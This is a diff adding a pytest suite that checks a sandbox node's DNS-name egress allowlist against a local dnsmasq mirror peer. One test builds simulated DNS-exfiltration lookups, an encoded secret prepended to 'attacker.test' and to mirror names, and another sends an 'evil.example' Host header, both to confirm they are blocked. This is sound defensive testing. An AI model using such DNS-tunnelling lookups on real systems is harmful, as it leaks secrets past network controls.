@@ -1,0 +1,242 @@
+# Egress by name with DNS closed (issue 29), end to end as root: a mirror peer
+# (test/pylib/egress_peer.py: dnsmasq with its own names, logging every query,
+# and an HTTP server) and a node started with --egress-sources naming it and
+# --dns-upstream pointing at its dnsmasq. Checks that a named rule reaches its
+# mirror and nothing else, that lookups of other names are REFUSED by the
+# node, never reach dnsmasq and are counted, that a per-phase change applies
+# at the next connect, that CNAME chains work, that a source that does not
+# resolve opens nothing and says so, that unknown names are a 400 naming the
+# known ones, that `network: none` gets no DNS, and that a malformed sources
+# file stops the node at start.
+import json
+import os
+import subprocess
+import sys
+import urllib.parse
+from pathlib import Path
+
+import pytest
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "pylib"))
+
+from dsec_harness import Node, _finish_node  # noqa: E402
+from egress_peer import MirrorPeer, nameserver, probe  # noqa: E402
+
+PYTHON = "base/python@3.11"
+
+
+@pytest.fixture(scope="module")
+def peer():
+    p = MirrorPeer()
+    yield p
+    p.close()
+
+
+@pytest.fixture(scope="module")
+def node(dsec_bin, store, peer):
+    path = peer.sources(os.path.join(peer.dir, "sources.json"))
+    n = Node(dsec_bin, store, extra_args=["--egress-sources", path,
+                                          "--dns-upstream", peer.upstream]).start()
+    yield n
+    _finish_node(n)
+
+
+def quote(sid):
+    return urllib.parse.quote(sid, safe="")
+
+
+def set_network(client, sid, allow):
+    return client.call("PUT", f"/v1/sandboxes/{quote(sid)}/network", {"allow": allow})
+
+
+def denials(client, sid):
+    status, info = client.get(sid)
+    assert status == 200, info
+    return info["denials"]
+
+
+def test_named_rule_reaches_its_mirror_and_nothing_else(client, peer):
+    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
+    ns = nameserver(client, sid)
+    assert ns and ns != peer.pypi, ns
+    got = probe(client, sid, [
+        ["resolve", "pypi.mirror.test"],
+        ["http", "pypi.mirror.test", peer.pypi],
+        ["resolve", "npm.mirror.test"],
+        ["tcp", peer.npm, 80],             # the other mirror, by address
+        ["tcp", peer.pypi, 53],            # the upstream itself
+        ["dns", peer.pypi, "pypi.mirror.test", 1],  # direct DNS to another server
+    ])
+    assert got == [[peer.pypi], "ok:host=pypi.mirror.test", "gaierror", "EPERM", "EPERM",
+                   "EPERM"], got
+    d = denials(client, sid)
+    assert "dns npm.mirror.test" in d["recent"], d
+    assert f"net {peer.npm}:80" in d["recent"], d
+    assert f"net {peer.pypi}:53" in d["recent"], d
+    # 3 refused connects/sends + at least one refused lookup (the stub may ask twice)
+    assert d["network"] >= 4, d
+    assert not [r for r in d["recent"] if r.startswith("unresolved ")], d
+
+
+def test_names_beside_addresses_and_unknown_names(client, peer):
+    sid = client.create_ok([PYTHON], memory_mb=256,
+                           network={"allow": ["npm", f"{peer.pypi}:80"]})
+    got = probe(client, sid, [["tcp", peer.pypi, 80], ["http", "npm.mirror.test", peer.npm]])
+    assert got == ["ok", "ok:host=npm.mirror.test"], got
+    status, out = client.create([PYTHON], memory_mb=256, network={"allow": ["pypi", "apt"]})
+    assert status == 400, out
+    msg = out["error"]["message"]
+    assert 'unknown egress source "apt"' in msg and "known: alias, big, ghost, npm, pypi" in msg, msg
+    status, out = set_network(client, sid, ["goproxy"])
+    assert status == 400 and "known: alias, big, ghost, npm, pypi" in out["error"]["message"], out
+
+
+def test_phase_change_applies_at_the_next_connect(client, peer):
+    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
+    assert probe(client, sid, [["http", "pypi.mirror.test", peer.pypi]]) == [
+        "ok:host=pypi.mirror.test"]
+    status, out = set_network(client, sid, ["npm"])
+    assert status == 200, out
+    got = probe(client, sid, [["resolve", "pypi.mirror.test"], ["tcp", peer.pypi, 80],
+                              ["resolve", "npm.mirror.test"],
+                              ["http", "npm.mirror.test", peer.npm]])
+    assert got == ["gaierror", "EPERM", [peer.npm], "ok:host=npm.mirror.test"], got
+    # Setup over: no network at all, at the next connect.
+    status, out = set_network(client, sid, [])
+    assert status == 200, out
+    assert probe(client, sid, [["tcp", peer.npm, 80]]) == ["EPERM"]
+
+
+def test_exfiltration_lookup_never_reaches_dnsmasq(client, peer):
+    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
+    secret = "c2VjcmV0a2V5MTIz"
+    names = [f"{secret}.attacker.test", f"{secret}.pypi.mirror.test",
+             f"{secret}-npm.mirror.test"]
+    ns = nameserver(client, sid)
+    got = probe(client, sid, [["resolve", n] for n in names]
+                + [["dns", ns, n, 16] for n in names])
+    assert got == ["gaierror"] * 3 + ["rcode:5"] * 3, got
+    asked = peer.queries()
+    assert not [q for q in asked if secret.lower() in q], asked
+    d = denials(client, sid)
+    for n in names:
+        assert f"dns {n.lower()}" in d["recent"], d
+    assert d["network"] >= 6, d
+
+
+def test_cname_chain_is_followed(client, peer):
+    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["alias"]})
+    got = probe(client, sid, [["resolve", "alias.mirror.test"],
+                              ["http", "alias.mirror.test", peer.pypi],
+                              ["tcp", peer.npm, 80]])
+    assert got == [[peer.pypi], "ok:host=alias.mirror.test", "EPERM"], got
+
+
+def test_source_that_does_not_resolve_opens_nothing_and_says_so(client, peer):
+    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["ghost"]})
+    d = denials(client, sid)
+    unresolved = [r for r in d["recent"] if r.startswith("unresolved ")]
+    assert len(unresolved) == 1, d
+    assert unresolved[0].startswith("unresolved ghost.mirror.test:80 (source ghost): "), d
+    got = probe(client, sid, [["resolve", "ghost.mirror.test"], ["tcp", peer.pypi, 80]])
+    assert got[1] == "EPERM", got
+
+
+def test_wrong_sni_or_host_on_an_allowed_address_is_closed(client, peer):
+    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
+    # npm.mirror.test is served by the same mirror peer; pypi's address is
+    # allowed, the name npm is not.
+    got = probe(client, sid, [
+        ["tls", "pypi.mirror.test", peer.pypi],
+        ["tls", "npm.mirror.test", peer.pypi],
+        ["http", "pypi.mirror.test", peer.pypi],
+        ["http", "npm.mirror.test", peer.pypi],
+        ["http", "evil.example", peer.pypi],
+    ])
+    assert got == ["ok:host=pypi.mirror.test", "closed", "ok:host=pypi.mirror.test", "closed",
+                   "closed"], got
+    d = denials(client, sid)
+    assert f"sni npm.mirror.test {peer.pypi}:443" in d["recent"], d
+    assert f"host npm.mirror.test {peer.pypi}:80" in d["recent"], d
+    assert f"host evil.example {peer.pypi}:80" in d["recent"], d
+    assert d["network"] >= 3, d
+
+
+def test_address_rules_are_not_name_checked(client, peer):
+    # The same address by a CIDR rule: any Host passes (the rule names no name).
+    sid = client.create_ok([PYTHON], memory_mb=256,
+                           network={"allow": [f"{peer.pypi}/32:80", f"{peer.pypi}:443"]})
+    got = probe(client, sid, [["http", "anything.example", peer.pypi],
+                              ["tls", "anything.example", peer.pypi]])
+    assert got == ["ok:host=anything.example", "ok:host=anything.example"], got
+
+
+def test_truncation_then_tcp_and_edns0(client, peer):
+    sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["big"]})
+    ns = nameserver(client, sid)
+    got = probe(client, sid, [["dnsudp", ns, "big.mirror.test", 1],
+                              ["dnstcp", ns, "big.mirror.test", 1],
+                              ["resolve", "big.mirror.test"]])
+    assert got[0].startswith("rcode:0 tc:1"), got   # 60 A records do not fit 512 bytes
+    assert got[1] == "rcode:0 tc:0 an:60", got      # the stub's retry over TCP
+    assert len(got[2]) == 60, got                   # glibc does the same by itself
+    # The rule holds at most 16 addresses per name (fail closed beyond).
+    d = denials(client, sid)
+    assert not [r for r in d["recent"] if r.startswith("unresolved ")], d
+
+
+def test_network_none_gets_no_dns(client, peer):
+    sid = client.create_ok([PYTHON], memory_mb=256)
+    got = probe(client, sid, [["resolve", "pypi.mirror.test"],
+                              ["dns", peer.pypi, "pypi.mirror.test", 1]])
+    assert got == ["gaierror", "EPERM"], got
+
+
+def test_malformed_sources_file_stops_the_node(dsec_bin, store, tmp_path):
+    bad = tmp_path / "sources.json"
+    bad.write_text('{\n  "pypi": ["pypi.mirror.test:443",\n            "x.test:99999"]\n}\n')
+    state = tmp_path / "state"
+    r = subprocess.run([dsec_bin, "node", "--state-dir", str(state), "--rest", "127.0.0.1:0",
+                        "--listen", "127.0.0.1:0", "--zram-mb", "0",
+                        "--egress-sources", str(bad)],
+                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
+    assert r.returncode == 2, r.stdout
+    out = r.stdout.decode()
+    assert "line 3" in out and '"pypi"[1]' in out and "x.test:99999" in out, out
+
+
+def test_python_names_as_in_dsecs_sdk(sdk, peer):
+    """network={"pypi": True, "npm": False} allows pypi only."""
+    from egress_peer import PROBE
+    sb = sdk.create(["base/python@3.11"], memory_mb=256, network={"pypi": True, "npm": False})
+    try:
+        sb.write_file("/tmp/p.py", PROBE.encode())
+        r = sb.exec(["python3", "/tmp/p.py", json.dumps([
+            ["http", "pypi.mirror.test", peer.pypi], ["resolve", "npm.mirror.test"]])],
+            timeout_s=120)
+        assert r.exit_code == 0, r
+        assert json.loads(r.stdout) == ["ok:host=pypi.mirror.test", "gaierror"], r.stdout
+        sb.set_network({"npm": True})
+        r = sb.exec(["python3", "/tmp/p.py", json.dumps([["resolve", "npm.mirror.test"]])],
+                    timeout_s=120)
+        assert json.loads(r.stdout) == [[peer.npm]], r.stdout
+    finally:
+        sb.destroy()
+
+
+def test_e2b_allow_out_takes_names(client, peer):
+    status, sb = client.call("POST", "/v2/sandboxes",
+                             {"templateID": "base", "network": {"allowOut": ["pypi"]}})
+    assert status == 201, sb
+    sid = sb["sandboxID"]
+    client.created.append(sid)
+    got = probe(client, sid, [["http", "pypi.mirror.test", peer.pypi],
+                              ["resolve", "npm.mirror.test"]])
+    assert got == ["ok:host=pypi.mirror.test", "gaierror"], got
+
+
+def test_nodes_show_the_sources_digest(client):
+    status, out = client.call("GET", "/v1/nodes")
+    assert status == 200, out
+    me = out["nodes"][0]["egress_sources"]
+    assert len(me["digest"]) == 16 and me["same_as_this_node"] is True, out
